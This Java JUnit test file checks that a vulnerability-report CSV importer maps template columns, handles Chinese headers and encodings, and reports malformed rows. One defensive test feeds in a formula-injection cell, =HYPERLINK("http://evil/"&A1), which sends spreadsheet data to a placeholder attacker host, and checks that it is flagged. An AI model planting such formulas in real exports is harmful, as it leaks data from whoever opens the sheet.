package org.inspectorate.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.inspectorate.finding.Severity;
import org.junit.jupiter.api.Test;
import java.util.ArrayList;
import java.util.Arrays;

/** The documented CSV template (docs/import-csv.md). */
class CsvTemplateTest {

    private static final String HEADER = "host,port,protocol,rule_id,title,severity,category,description,solution,"
            + "cve,cnvd,cnnvd,cvss3_vector,location,evidence\n";

    @Test
    void templateRowBecomesAFindingWithEveryColumnMapped() {
        List<ScannedFinding> findings = Samples.parseText(ReportFormat.CSV, "\uFEFF" + HEADER
                + "10.1.2.3,8080,TCP,R-17,Tomcat manager exposed,高,MISCONFIGURATION,\"Manager app, reachable\","
                + "Restrict access,CVE-2020-1938 cve-2019-0232,CNVD-2020-10487,CNNVD-202002-1040,"
                + "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H,,HTTP/1.1 200 OK\n");

        assertThat(findings).hasSize(1);
        ScannedFinding f = findings.get(0);
        assertThat(f.host()).isEqualTo("10.1.2.3");
        assertThat(f.port()).isEqualTo(8080);
        assertThat(f.protocol()).isEqualTo("tcp");
        assertThat(f.ruleId()).isEqualTo("R-17");
        assertThat(f.severity()).isEqualTo(Severity.HIGH);
        assertThat(f.category()).isEqualTo(FindingCategory.MISCONFIGURATION);
        assertThat(f.description()).isEqualTo("Manager app, reachable");
        assertThat(f.cves()).containsExactly("CVE-2020-1938", "CVE-2019-0232");
        assertThat(f.cnvdIds()).containsExactly("CNVD-2020-10487");
        assertThat(f.cnnvdIds()).containsExactly("CNNVD-202002-1040");
        assertThat(f.cvssVector()).isEqualTo("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
        assertThat(f.evidence()).isEqualTo("HTTP/1.1 200 OK");
        assertThat(f.flags()).isEmpty();
    }

    @Test
    void minimalTemplateNeedsOnlyHostTitleAndSeverity() {
        List<ScannedFinding> findings = Samples.parseText(ReportFormat.CSV,
                "title,severity,host\nSSH default password admin/admin,HIGH,gw.example.cn\nBanner,info,gw.example.cn\n");

        assertThat(findings).extracting(ScannedFinding::category)
                .containsExactly(FindingCategory.WEAK_PASSWORD, FindingCategory.INFORMATIONAL);
        assertThat(findings.get(0).port()).isNull();
    }

    @Test
    void formulaLikeCellsAreKeptAsTextAndFlagged() {
        List<ScannedFinding> findings = Samples.parseText(ReportFormat.CSV, "host,title,severity,description\n"
                + "10.0.0.1,=HYPERLINK(\"http://evil/\"&A1),LOW,@SUM(1+1)\n"
                + "10.0.0.2,Plain title,LOW,-just a dash list\n"
                + "10.0.0.3,Plain title,LOW,nothing odd\n");

        assertThat(findings.get(0).title()).isEqualTo("=HYPERLINK(\"http://evil/\"&A1)");
        assertThat(findings.get(0).description()).isEqualTo("@SUM(1+1)");
        assertThat(findings.get(0).flags()).contains(FindingFlag.FORMULA_LIKE_TEXT);
        assertThat(findings.get(1).flags()).contains(FindingFlag.FORMULA_LIKE_TEXT);
        assertThat(findings.get(2).flags()).doesNotContain(FindingFlag.FORMULA_LIKE_TEXT);
    }

    @Test
    void unknownSeverityIsRefusedWithLineColumnAndValue() {
        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "host,title,severity\n10.0.0.1,x,HIGH\n10.0.0.2,y,urgent\n"))
                .isInstanceOfSatisfying(ReportParseException.class, e -> {
                    assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-severity-invalid");
                    assertThat(e.problem().args()).containsExactly("urgent");
                    assertThat(e.line()).isEqualTo(3);
                    assertThat(e.column()).isEqualTo(3);
                });
    }

    @Test
    void wrongHeadersNameEveryUnknownAndEveryMissingColumn() {
        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "host,title,severity_level\n10.0.0.1,x,HIGH\n"))
                .isInstanceOfSatisfying(ReportParseException.class, e -> {
                    assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-header-wrong");
                    assertThat(e.problem().args()).containsExactly("severity_level", "severity");
                    assertThat(e.line()).isEqualTo(1);
                });
        assertThatThrownBy(() -> new CsvReportParser(new WeakCredentialPolicy()).parse(
                new ByteArrayInputStream("host,title\n10.0.0.1,x\n".getBytes()), f -> { }))
                .isInstanceOfSatisfying(ReportParseException.class, e -> {
                    assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-missing-column");
                    assertThat(e.problem().args()).containsExactly("severity");
                });
        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "host,title,severity,风险,备注\n10.0.0.1,x,HIGH,a,b\n"))
                .isInstanceOfSatisfying(ReportParseException.class, e -> {
                    assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-unknown-column");
                    assertThat(e.problem().args()).containsExactly("风险, 备注");
                });
    }

    @Test
    void chineseHeadersAreRecognisedAsTheTemplateAndNamedRatherThanAnUnknownFormat() {
        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "主机,端口,标题,危险等级\n10.0.0.1,80,x,高\n"))
                .isInstanceOfSatisfying(ReportParseException.class, e -> {
                    assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-header-wrong");
                    assertThat(e.problem().args()).containsExactly("主机, 端口, 标题, 危险等级", "title, severity, host");
                });
    }

    @Test
    void aGbkFileAsExcelExportsItOnAChineseSystemIsRead() throws Exception {
        byte[] gbk = (HEADER + "10.1.2.3,445,tcp,,弱口令：管理员账号使用默认密码,高危,,\"说明，含逗号\",修改密码,,,,,,\n")
                .getBytes("GB18030");

        List<ScannedFinding> findings = parse(gbk);

        assertThat(findings).hasSize(1);
        assertThat(findings.get(0).title()).isEqualTo("弱口令：管理员账号使用默认密码");
        assertThat(findings.get(0).description()).isEqualTo("说明，含逗号");
        assertThat(findings.get(0).severity()).isEqualTo(Severity.HIGH);
        assertThat(FormatDetector.detect(gbk)).isEqualTo(ReportFormat.CSV);
    }

    @Test
    void aUtf8FileWithAByteOrderMarkIsRead() {
        byte[] bom = ("\uFEFF" + "title,severity,host\n中文标题,中,10.0.0.9\n").getBytes(StandardCharsets.UTF_8);

        assertThat(parse(bom)).extracting(ScannedFinding::title).containsExactly("中文标题");
        assertThat(FormatDetector.detect(bom)).isEqualTo(ReportFormat.CSV);
    }

    @Test
    void aFileThatIsNeitherUtf8NorGb18030IsRefusedNamingTheEncoding() {
        byte[] bytes = new byte[] {'t', 'i', 't', 'l', 'e', ',', 's', 'e', 'v', 'e', 'r', 'i', 't', 'y', ',', 'h',
                'o', 's', 't', '\n', 'x', (byte) 0x80, ',', 'H', 'I', 'G', 'H', ',', '1', '\n'};

        assertThatThrownBy(() -> parse(bytes)).isInstanceOfSatisfying(ReportParseException.class, e -> {
            assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-encoding-unknown");
            assertThat(e.line()).isEqualTo(2);
        });
    }

    @Test
    void aUtf8FileWithGbkBytesFurtherDownIsRefusedNamingTheEncodingAndLine() throws Exception {
        StringBuilder text = new StringBuilder("title,severity,host\n");
        for (int i = 0; text.length() < FormatDetector.PREFIX + 100; i++) {
            text.append("t").append(i).append(",LOW,10.0.0.1\n");
        }
        long lines = text.chars().filter(c -> c == '\n').count();
        byte[] head = text.toString().getBytes(StandardCharsets.UTF_8);
        byte[] tail = "中文,LOW,10.0.0.1\n".getBytes("GB18030");
        byte[] mixed = Arrays.copyOf(head, head.length + tail.length);
        System.arraycopy(tail, 0, mixed, head.length, tail.length);

        assertThatThrownBy(() -> parse(mixed)).isInstanceOfSatisfying(ReportParseException.class, e -> {
            assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-encoding");
            assertThat(e.problem().args()).containsExactly("UTF-8");
            assertThat(e.line()).isEqualTo(lines + 1);
        });
    }

    @Test
    void semicolonOrTabSeparatedFilesAreRefusedNamingTheirSeparator() {
        for (String[] file : new String[][] {{"host;title;severity\n10.0.0.1;x;HIGH\n", ";"},
                {"host\ttitle\tseverity\n10.0.0.1\tx\tHIGH\n", "Tab"}}) {
            byte[] bytes = file[0].getBytes(StandardCharsets.UTF_8);
            assertThat(FormatDetector.detect(bytes)).isEqualTo(ReportFormat.CSV);
            assertThatThrownBy(() -> parse(bytes)).isInstanceOfSatisfying(ReportParseException.class, e -> {
                assertThat(e.messageKey()).isEqualTo("ingest.parse.csv-separator");
                assertThat(e.problem().args()).containsExactly(file[1]);
            });
        }
    }

    @Test
    void everyRowsHostIsReportedAsScanned() {
        List<String> hosts = new ArrayList<>();
        new ReportParsers().parse(ReportFormat.CSV, new ByteArrayInputStream(
                "host,title,severity\n10.0.0.1,a,LOW\n10.0.0.2,b,HIGH\n".getBytes(StandardCharsets.UTF_8)),
                new ReportSink() {
                    @Override
                    public void accept(ScannedFinding finding) {
                    }

                    @Override
                    public void hostScanned(String host) {
                        hosts.add(host);
                    }
                });

        assertThat(hosts).containsExactly("10.0.0.1", "10.0.0.2");
    }

    @Test
    void rowWithAnotherColumnCountIsMalformed() {
        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "host,title,severity\n10.0.0.1,x,HIGH,extra\n"))
                .isInstanceOfSatisfying(ReportParseException.class,
                        e -> assertThat(e.messageKey()).isEqualTo("ingest.parse.malformed-csv"));
    }

    @Test
    void portOutOfRangeIsRefusedNamingTheValue() {
        assertThatThrownBy(() -> Samples.parseText(ReportFormat.CSV, "host,port,title,severity\n10.0.0.1,65536,x,HIGH\n"))
                .isInstanceOfSatisfying(ReportParseException.class, e -> {
                    assertThat(e.messageKey()).isEqualTo("ingest.parse.port-invalid");
                    assertThat(e.problem().args()).containsExactly("65536");
                    assertThat(e.line()).isEqualTo(2);
                    assertThat(e.column()).isEqualTo(2);
                });
    }

    private static List<ScannedFinding> parse(byte[] bytes) {
        List<ScannedFinding> findings = new ArrayList<>();
        new ReportParsers().parse(new ByteArrayInputStream(bytes), findings::add);
        return findings;
    }

    @Test
    void headerOnlyFileIsAnEmptyReport() {
        assertThat(Samples.parseText(ReportFormat.CSV, HEADER)).isEmpty();
    }
}
